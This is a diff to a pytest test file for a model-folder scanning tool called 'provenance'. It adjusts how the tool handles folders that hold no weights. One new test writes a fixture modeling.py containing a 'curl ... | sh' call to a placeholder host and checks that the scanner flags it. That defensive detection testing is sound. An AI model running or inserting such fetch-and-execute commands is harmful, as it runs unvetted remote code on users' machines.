@@ -154,14 +154,25 @@ def test_an_empty_folder_is_nothing_to_inspect(tmp_path: Path) -> None:
     assert "empty" in done.complaint
 
 
-def test_a_folder_without_weights_is_nothing_to_inspect(tmp_path: Path, models: dict[str, Path]) -> None:
+def test_a_folder_without_weights_is_not_fine(tmp_path: Path, models: dict[str, Path]) -> None:
     folder = tmp_path / "model"
     folder.mkdir()
     (folder / "config.json").write_text("{}")
-    for arguments in (["check", folder], ["scan", folder], ["diff", models["base"], "--base", folder]):
-        done = provenance(*arguments)
+    for verb in ("check", "scan"):
+        done = provenance(verb, folder)
         assert done.code == 3
-        assert "weights" in done.complaint
+        assert "not one tensor of the model was read" in done.out
+        assert "name the folder or file that holds the weights" in done.out
+    done = provenance("diff", models["base"], "--base", folder)
+    assert done.code == 3
+    assert "weights" in done.complaint
+
+
+def test_what_lies_where_no_weights_are_is_looked_at_all_the_same(tmp_path: Path) -> None:
+    (tmp_path / "modeling.py").write_text("import os\nos.system('curl https://example.invalid | sh')\n")
+    done = provenance("scan", tmp_path)
+    assert done.code == 1
+    assert "code-runs-programs" in done.out
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
